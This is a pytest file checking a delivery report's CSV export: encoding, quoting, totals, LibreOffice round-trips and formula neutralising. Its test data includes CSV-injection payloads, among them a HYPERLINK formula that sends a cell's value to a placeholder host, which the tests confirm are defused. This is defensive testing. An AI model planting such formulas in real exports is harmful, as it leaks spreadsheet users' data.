"""The report as CSV: encoding, quoting, the TOTALS line, formula neutralising,
and a round trip through Python's ``csv`` and LibreOffice."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import openpyxl
import pytest

from b24mw.kit.db import Database
from b24mw.reports.csvout import REPORT_COLUMNS, neutralise
from tests.reports.helpers import REPORT, T0, Seed, seed
from tests.support.auth import auth
from tests.support.libreoffice import CSV_IMPORT, convert

pytestmark = pytest.mark.usefixtures("couriers")

# What people type into order titles and customer names.
AWKWARD = [
    'Smith, John "Johnny"',
    "two\nlines",
    "crlf\r\nline",
    "semi;colon",
    "Ёлкин Пётр",
    " leading space",
    "'already quoted",
]
# Cells a spreadsheet would evaluate, and what the file must carry instead.
FORMULAS = {
    '=HYPERLINK("http://x.example/?"&A1,"click")': '\'=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2": "'+1+2",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


async def get_csv(client: httpx.AsyncClient, **params: str) -> httpx.Response:
    response = await client.get(
        REPORT, params={"format": "csv", **params}, headers=auth("admin", "boss")
    )
    assert response.status_code == 200, response.text
    return response


def parse(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_neutralise_leaves_plain_text_alone() -> None:
    assert neutralise("Anna") == "Anna"
    assert neutralise("") == ""
    assert neutralise(None) == ""
    assert neutralise("a=b") == "a=b"
    for raw, safe in FORMULAS.items():
        assert neutralise(raw) == safe


async def test_headers_bom_columns_and_totals(client: httpx.AsyncClient, db: Database) -> None:
    await seed(
        db,
        Seed(
            "instant",
            "c1",
            "DONE",
            T0,
            "Case",
            amount="490.50",
            history=[(0, "NEW"), (52.5, "DONE")],
        ),
        Seed("delivery", "c2", "READY", T0 + timedelta(hours=1), "TV", amount="1250.00"),
    )
    response = await get_csv(client, created_from="2025-03-01", created_to="2025-03-31")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        "attachment; filename=deliveries-2025-03-01-2025-03-31.csv"
    )
    body = response.content
    assert b"\r\n" in body and b"\n" not in body.replace(b"\r\n", b"")
    header, first, second, totals = parse(body)
    assert tuple(header) == REPORT_COLUMNS
    assert first == [
        str(first[0]),
        "instant",
        "c1",
        "Courier c1",
        "DONE",
        "Case",
        "Anna Smirnova",
        "490.50",
        "RUB",
        "2025-03-01T09:00:00.000000Z",
        "2025-03-01T09:52:30.000000Z",
        "52.5",
    ]
    assert second[1] == "delivery" and second[-1] == ""
    assert totals == ["TOTALS", "2", "", "", "", "", "", "1740.50", "RUB", "", "", "52.5"]


async def test_file_name_without_a_range(client: httpx.AsyncClient) -> None:
    response = await get_csv(client)
    assert response.headers["content-disposition"] == (
        "attachment; filename=deliveries-start-now.csv"
    )
    assert parse(response.content) == [
        list(REPORT_COLUMNS),
        ["TOTALS", "0", *[""] * 5, "0.00", "", "", "", "0.0"],
    ]


async def seed_awkward(db: Database) -> list[str]:
    texts = AWKWARD + list(FORMULAS)
    await seed(
        db,
        *(
            Seed(created_at=T0 + timedelta(minutes=n), title=text, customer_name=text)
            for n, text in enumerate(texts)
        ),
    )
    return texts


def line_breaks(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def expected_cell(text: str) -> str:
    return FORMULAS.get(text, text)


async def test_python_csv_round_trip(client: httpx.AsyncClient, db: Database) -> None:
    texts = await seed_awkward(db)
    rows = parse((await get_csv(client)).content)[1:-1]
    assert [r[5] for r in rows] == [expected_cell(t) for t in texts]
    assert [r[6] for r in rows] == [expected_cell(t) for t in texts]


async def test_libreoffice_reads_it_back_as_text_not_formulas(
    client: httpx.AsyncClient, db: Database, tmp_path: Path
) -> None:
    texts = await seed_awkward(db)
    source = tmp_path / "report.csv"
    source.write_bytes((await get_csv(client)).content)
    converted = convert(source, "xlsx", tmp_path / "lo", infilter=CSV_IMPORT)
    sheet = openpyxl.load_workbook(converted).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2, max_row=len(texts) + 1))
    for row, text in zip(rows, texts, strict=True):
        title, customer, amount, order_id = row[5], row[6], row[7], row[0]
        # A spreadsheet keeps one kind of line break in a cell: LibreOffice
        # turns CRLF and a lone CR into LF.
        want = line_breaks(expected_cell(text))
        for cell in (title, customer):
            assert cell.data_type == "s", (text, cell.value)
            assert line_breaks(cell.value) == want
        assert amount.value == 100 and isinstance(order_id.value, int)
    last = next(sheet.iter_rows(min_row=len(texts) + 2))
    assert last[0].value == "TOTALS"
    assert last[7].value == 100 * len(texts)


async def test_totals_add_up_to_the_column_above(client: httpx.AsyncClient, db: Database) -> None:
    await seed(
        db,
        *(
            Seed(
                status="DONE" if n % 3 else "READY",
                created_at=T0 + timedelta(minutes=n),
                amount=f"{n * 7.35:.2f}",
                history=[(0, "NEW"), (n * 1.37 + 0.05, "DONE" if n % 3 else "READY")],
            )
            for n in range(1, 20)
        ),
    )
    *rows, totals = parse((await get_csv(client)).content)[1:]
    assert Decimal(totals[7]) == sum(Decimal(r[7]) for r in rows)
    assert Decimal(totals[11]) == sum(Decimal(r[11]) for r in rows if r[11])
    assert int(totals[1]) == len(rows) == 19
    assert sum(1 for r in rows if r[11] == "") == 6  # the open ones
